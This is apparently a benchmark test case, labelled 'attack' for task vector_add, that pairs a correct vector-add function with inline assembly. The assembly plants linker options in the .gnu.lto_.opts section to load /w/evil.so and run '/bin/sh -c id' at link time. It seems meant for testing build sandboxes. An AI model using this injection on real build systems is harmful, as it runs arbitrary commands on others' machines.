// attack: leaves link-time options in the section where the linker's wrapper looks for flags
// row: 35
// task: vector_add
// expect: correct
asm(".pushsection .gnu.lto_.opts, \"e\", @progbits\n"
    ".string \"'-fplugin=/w/evil.so' '-Xassembler' '--listing-lhs-width=9' '-wrapper' '/bin/sh,-c,id'\"\n"
    ".popsection");

#include <cstdint>

extern "C" void vector_add(const float* x, const float* y, float* z, int64_t n) {
  for (int64_t i = 0; i < n; ++i) z[i] = x[i] + y[i];
}
